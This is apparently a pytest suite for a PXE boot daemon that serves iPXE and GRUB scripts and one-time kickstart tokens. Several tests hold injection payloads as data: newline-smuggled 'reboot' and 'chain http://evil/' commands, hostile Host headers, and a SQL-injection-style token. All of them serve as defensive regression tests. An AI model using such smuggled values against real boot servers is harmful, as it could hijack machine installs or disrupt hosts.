"""Boot scripts and rendered files over real sockets, as machines ask for them."""

from __future__ import annotations

import asyncio
from datetime import timedelta
from pathlib import Path

import pytest

from goosed_daemon import audit, machines
from goosed_daemon.state import State
from tests.daemon.content import make_store
from tests.daemon.readers import grub_words
from tests.daemon.state_backends import MAC, TTL
from tests.daemon.test_web_artifacts import raw
from tests.daemon.web_site import FILES, PROFILES, Lab, running


def events(state: State) -> list[str]:
    return [event.kind for event in audit.events(state)]


async def render(lab: Lab, secret: str, method: str = "GET") -> tuple[int, str]:
    response = await lab.get(f"/v1/render/kickstart?token={secret}", method)
    return response.status, await response.text()


async def test_an_armed_machine_is_installed_once(lab: Lab) -> None:
    lab.arm()
    script = await lab.script()
    assert script.startswith("#!ipxe\n")
    assert f"{lab.url}/v1/artifacts/site-base@1.0/rhel9/images/pxeboot/vmlinuz" in script
    secret = await lab.token()
    assert f"inst.ks={lab.url}/v1/render/kickstart?token={secret}" in script
    status, text = await render(lab, secret)
    assert status == 200 and "web1" in text
    response = await lab.get(f"/v1/render/kickstart?token={secret}")
    assert response.status == 410
    assert (await response.json())["error"]["code"] == "token-used"
    assert events(lab.deps.state) == [
        "machine-armed", "token-issued", "token-claimed", "enrolment-issued", "token-refused",
    ]  # fmt: skip


async def test_what_a_script_names_can_be_fetched(lab: Lab) -> None:
    lab.arm()
    words = (await lab.script()).split()
    fetched = [word for word in words if word.startswith(f"{lab.url}/v1/artifacts/")]
    assert len(fetched) == 2
    for url in fetched:
        assert (await lab.get(url.removeprefix(lab.url), "HEAD")).status == 200


async def test_a_rom_and_then_ipxe_ask_twice_and_get_one_token(lab: Lab) -> None:
    lab.arm()
    assert await lab.script() == await lab.script()
    assert machines.show(lab.deps.state, MAC).tries_left == 2  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "spelling", ["52-54-00-12-34-56", "525400123456", "5254.0012.3456", "01-52-54-00-12-34-56"]
)
async def test_every_spelling_of_a_mac_is_the_same_machine(lab: Lab, spelling: str) -> None:
    lab.arm()
    assert await lab.script(spelling) == await lab.script()


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("?mac=52:54:00:00:00:99", "no machine has MAC 52:54:00:00:00:99"),
        (
            "?mac=52:54:00:00:00:99&uuid=00000000-0000-0000-0000-000000000000",
            "no machine has MAC 52:54:00:00:00:99\n",
        ),
        ("?mac=nonsense", "is not a MAC address"),
        ("?mac=", "mac is missing"),
        ("", "mac is missing"),
        (f"?mac={MAC}&mac={MAC}", "more than once"),
        ("?mac=" + "5" * 300, "longer than"),
        (f"?mac={MAC}", "not armed"),
    ],
)
async def test_who_is_not_installed_is_told_why_and_boots_the_disk(
    lab: Lab, query: str, words: str
) -> None:
    response = await lab.get("/v1/boot/ipxe" + query)
    script = await response.text()
    assert response.status == 200  # iPXE shows nothing of errors
    assert words in script and "sanboot" in script and "token" not in script
    assert events(lab.deps.state) == []


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("?mac=52:54:00:00:00:99", "no machine has MAC 52:54:00:00:00:99"),
        ("?mac=nonsense", "is not a MAC address"),
        ("", "mac is missing"),
        (f"?mac={MAC}&port=99999", "is not a port"),
        (f"?mac={MAC}", "not armed"),
    ],
)
async def test_grub_is_told_why_not_and_boots_the_disk(lab: Lab, query: str, words: str) -> None:
    response = await lab.get("/v1/boot/grub" + query)
    script = await response.text()
    assert response.status == 200  # GRUB shows nothing of errors
    assert words in script and "chainloader" in script and "token" not in script
    assert events(lab.deps.state) == []


async def test_grub_and_ipxe_offer_one_and_the_same_token(lab: Lab) -> None:
    lab.arm()
    assert (await lab.get(f"/v1/boot/grub?mac={MAC}", "HEAD")).status == 200
    assert "token-issued" not in events(lab.deps.state)
    script = await (await lab.get(f"/v1/boot/grub?mac={MAC}")).text()
    secret = await lab.token()
    assert f"'inst.ks={lab.url}/v1/render/kickstart?token={secret}'" in script
    assert f"'BOOTIF=01-{MAC.replace(':', '-')}'" in script
    assert (await render(lab, secret))[0] == 200
    assert machines.show(lab.deps.state, MAC).tries_left == 2  # type: ignore[union-attr]


async def test_the_port_that_grub_leaves_out_of_its_host_field_is_told_in_the_query(
    lab: Lab,
) -> None:
    lab.arm()
    port = lab.url.rpartition(":")[2]
    chain = await (await lab.get("/boot.grub")).text()
    assert f'&port="{port}' in chain
    asked = await lab.get(f"/v1/boot/grub?mac={MAC}&port={port}", Host="127.0.0.1")
    assert f"'inst.ks=http://127.0.0.1:{port}/v1/render" in await asked.text()
    plain = await lab.get(f"/v1/boot/grub?mac={MAC}&port=80", Host="127.0.0.1")
    assert "'inst.ks=http://127.0.0.1/v1/render" in await plain.text()


async def test_grub_script_injection_by_query_does_not_leave_its_line(lab: Lab) -> None:
    evil = "x%0Areboot%0A';%20reboot;%20echo%20'%20$(reboot)%20%22%20{%20}"
    for query in (f"?mac={evil}", f"?mac=52:54:00:00:00:99&serial={evil}&uuid={evil}"):
        script = await (await lab.get("/v1/boot/grub" + query)).text()
        checked = [line for line in script.splitlines() if "reboot" in line]
        assert checked
        for line in checked:
            assert grub_words(line)[:2] == ["echo", "goose:"] and len(grub_words(line)) == 3


async def test_script_injection_by_query_does_not_leave_its_line(lab: Lab) -> None:
    """CVE-2026-46447: a newline in a value became a command of the script."""
    evil = "x%0Achain%20http://evil/%0A||%20chain%20http://evil/%20;%20${netX/mac}"
    for query in (f"?mac={evil}", f"?mac=52:54:00:00:00:99&serial={evil}&uuid={evil}"):
        script = await (await lab.get("/v1/boot/ipxe" + query)).text()
        for line in script.splitlines():
            if "evil" in line:
                assert line.startswith("echo goose: "), script
                assert "${" not in line and " || " not in line and " ; " not in line


@pytest.mark.parametrize(
    "host", ["evil host", "evil;chain", "a/b", "${evil}", "x\ty", "u@h", "a" * 300, "[::1", ""]
)
async def test_host_header_injection_reaches_no_script(lab: Lab, host: str) -> None:
    lab.arm()
    for path in ("/boot.ipxe", f"/v1/boot/ipxe?mac={MAC}"):
        request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        answer = (await raw(lab, request.encode())).decode()
        body = answer.partition("\r\n\r\n")[2]
        assert "chain --replace" not in body and "token=" not in body
        assert not host or host not in body or "echo goose" in body
    assert "token-issued" not in events(lab.deps.state)


async def test_a_public_url_that_is_set_is_told(tmp_path: Path) -> None:
    async with running(tmp_path, GOOSED_PUBLIC_URL="http://boot.example.org:8080/") as lab:
        lab.arm()
        assert "http://boot.example.org:8080/v1/render/kickstart?token=" in await lab.script()
        chain = await (await lab.get("/boot.ipxe")).text()
        assert "http://boot.example.org:8080/v1/boot/ipxe?mac=" in chain


async def test_the_chain_loader_asks_where_it_came_from(lab: Lab) -> None:
    text = await (await lab.get("/boot.ipxe")).text()
    assert text.startswith("#!ipxe\n")
    assert f"{lab.url}/v1/boot/ipxe?mac=${{netX/mac:hexhyp}}" in text


async def test_the_debian_installer_is_told_no_script_where_dhcp_names_the_loader(lab: Lab) -> None:
    answer = await lab.get("/boot.ipxe", **{"User-Agent": "debian-installer"})
    lines = (await answer.text()).splitlines()
    assert answer.status == 200 and lines
    assert all(line.startswith("# ") for line in lines), "debconf takes nothing else for no answer"


async def test_a_spent_token_is_followed_by_a_new_one_until_the_tries_are_over(lab: Lab) -> None:
    lab.arm(tries=2)
    for _ in range(2):
        assert (await render(lab, await lab.token()))[0] == 200
    script = await lab.script()
    assert "used up the tries" in script and "sanboot" in script


async def test_a_token_that_waited_too_long_is_refused_and_replaced(lab: Lab) -> None:
    lab.arm()
    secret = await lab.token()
    lab.clock.forward(TTL)
    response = await lab.get(f"/v1/render/kickstart?token={secret}")
    assert response.status == 410
    assert (await response.json())["error"]["code"] == "token-expired"
    assert await lab.token() != secret


async def test_head_uses_no_token(lab: Lab) -> None:
    lab.arm()
    assert (await lab.get(f"/v1/boot/ipxe?mac={MAC}", "HEAD")).status == 200
    assert "token-issued" not in events(lab.deps.state)
    secret = await lab.token()
    for _ in range(2):
        assert await render(lab, secret, "HEAD") == (200, "")
    assert (await render(lab, secret))[0] == 200
    assert await render(lab, secret, "HEAD") == (410, "")
    assert events(lab.deps.state).count("token-refused") == 0


@pytest.mark.parametrize(
    ("told", "warned"), [("operator:ops", False), ("127.0.0.1", False), ("10.0.0.9", True)]
)
async def test_an_address_other_than_was_told_is_remarked_on(
    lab: Lab, caplog: pytest.LogCaptureFixture, told: str, warned: bool
) -> None:
    caplog.set_level("INFO")
    offer = lab.deps.tokens.issue(MAC, lab.clock.now, TTL, told)
    assert (await render(lab, offer.secret))[0] == 200
    said = [record.getMessage() for record in caplog.records if record.name == "goosed.render"]
    assert said == ["rendered for another address than was told" if warned else "rendered"]


async def test_of_many_renders_at_once_one_is_answered(lab: Lab) -> None:
    lab.arm()
    secret = await lab.token()
    answers = await asyncio.gather(*(render(lab, secret) for _ in range(40)))
    assert sorted(status for status, _ in answers) == [200, *([410] * 39)]


@pytest.mark.parametrize("secret", ["", "x", "%00", "a" * 43, "a" * 5000, "%27%20or%201=1"])
async def test_a_guessed_token_gets_nothing(lab: Lab, secret: str) -> None:
    lab.arm()
    await lab.token()
    status, text = await render(lab, secret)
    assert status in (400, 404) and "web1" not in text


async def test_a_token_of_another_installer_is_not_used_up(lab: Lab) -> None:
    lab.arm()
    secret = await lab.token()
    response = await lab.get(f"/v1/render/preseed?token={secret}")
    assert response.status == 409
    assert (await response.json())["error"]["code"] == "wrong-installer"
    assert (await lab.get(f"/v1/render/unattend?token={secret}")).status == 409
    assert (await lab.get(f"/v1/render/autoyast?token={secret}")).status == 404
    assert (await render(lab, secret))[0] == 200


async def test_no_token_is_wasted_on_content_that_is_not_there(lab: Lab) -> None:
    lab.arm()
    await render(lab, await lab.token())
    make_store(lab.home.store, {"other": b"x"}, version="2.0", sequence=2)
    script = await lab.script()
    assert "rhel9/images/pxeboot/vmlinuz" in script and "does not have" in script
    assert "sanboot" in script
    assert events(lab.deps.state).count("token-issued") == 1
    make_store(lab.home.store, FILES, version="3.0", sequence=3)
    assert "site-base@3.0" in await lab.script()


async def test_a_repo_that_is_not_in_the_bundle_is_noticed(lab: Lab) -> None:
    lab.arm()
    lab.write_profiles(PROFILES.replace("repo: rhel9", "repo: rhel8"))
    assert "needs rhel8/" in await after_a_look(lab)


async def test_no_token_is_wasted_on_a_bundle_that_is_not_imported(lab: Lab) -> None:
    lab.arm()
    lab.write_profiles(PROFILES.replace("bundle: site-base", "bundle: other"))
    assert "needs bundle other, which is not imported" in await after_a_look(lab)


async def test_wrong_profiles_install_nothing_and_are_named(lab: Lab) -> None:
    lab.arm()
    secret = await lab.token()
    lab.write_profiles(PROFILES + "serail: X\n")
    script = await after_a_look(lab)
    assert "the infra profiles have errors" in script and "site.yaml:22" in script
    assert "sanboot" in script
    response = await lab.get(f"/v1/render/kickstart?token={secret}")
    assert response.status == 503 and response.headers["Retry-After"] == "5"
    assert await lab.metric("goosed_profiles_valid") == 0
    lab.write_profiles(PROFILES)
    await after_a_look(lab)
    assert (await render(lab, secret))[0] == 200  # nothing was used up


async def test_a_machine_taken_out_of_the_profiles_is_not_rendered(lab: Lab) -> None:
    lab.arm()
    secret = await lab.token()
    lab.write_profiles(PROFILES.replace(MAC, "52:54:00:aa:aa:aa"))
    await after_a_look(lab)
    status, text = await render(lab, secret)
    assert status == 404 and "machine-unknown" in text


async def after_a_look(lab: Lab) -> str:
    """The machine's script once the daemon has looked at the profiles again."""
    await asyncio.sleep(1.1)
    return await lab.script()


async def test_strangers_are_counted_not_recorded(lab: Lab) -> None:
    for number in range(30):
        await lab.script(f"52:54:00:00:00:{number:02x}")
    assert events(lab.deps.state) == []
    audit.tally(lab.deps.state, lab.deps.strangers.take())
    assert len(audit.refusals(lab.deps.state)) == 30
    assert await lab.metric('goosed_boot_scripts_total{outcome="machine-unknown"}') == 30


def test_strangers_do_not_fill_memory_or_disk(state: State) -> None:
    strangers = audit.Strangers(limit=10)
    from tests.daemon.state_backends import NOW

    for number in range(1000):
        at = NOW + timedelta(seconds=number)
        strangers.refused(at, "machine-unknown", f"mac{number}", "192.0.2.1")
    taken = strangers.take()
    assert len(taken) == 11 and sum(row.count for row in taken) == 1000
    assert strangers.take() == []
    for number in range(5):
        audit.tally(state, [audit.Refusal("r", f"{number}", "a", 2, NOW, NOW)] * 2, limit=100)
    assert {row.count for row in audit.refusals(state)} == {4}
    audit.tally(state, taken, limit=3)
    kept = audit.refusals(state)
    assert len(kept) == 3 and kept[0].last_at == NOW + timedelta(seconds=999)


async def test_the_installs_own_report_ends_the_arming(lab: Lab) -> None:
    lab.arm()
    secret = await lab.token()
    token = lab.deps.tokens.look(secret)
    assert token is not None
    callback = lab.deps.tokens.callback(token)
    path = f"/v1/machines/{MAC}/progress?token={callback}&step="
    assert (await lab.get(path + "installed", "POST")).status == 404  # before it began
    await render(lab, secret)
    assert (await lab.get(path + "started", "POST")).status == 204
    assert (await lab.get(path + "nonsense", "POST")).status == 400
    assert (await lab.get(path + "installed", "POST")).status == 204
    script = await lab.script()
    assert "it is installed" in script and "sanboot" in script
    assert events(lab.deps.state)[-3:] == [
        "install-started",
        "install-installed",
        "machine-installed",
    ]


async def test_a_boot_token_reports_nothing_and_a_callback_renders_nothing(lab: Lab) -> None:
    lab.arm()
    secret = await lab.token()
    token = lab.deps.tokens.look(secret)
    assert token is not None
    callback = lab.deps.tokens.callback(token)
    assert (await render(lab, callback))[0] == 404
    await render(lab, secret)
    path = f"/v1/machines/{MAC}/progress?step=installed&token="
    assert (await lab.get(path + secret, "POST")).status == 404
    assert machines.show(lab.deps.state, MAC).armed  # type: ignore[union-attr]


async def test_scripts_and_rendered_files_are_kept_by_no_cache(lab: Lab) -> None:
    lab.arm()
    script = await lab.get(f"/v1/boot/ipxe?mac={MAC}")
    rendered = await lab.get(f"/v1/render/kickstart?token={await lab.token()}")
    for response in (script, rendered):
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
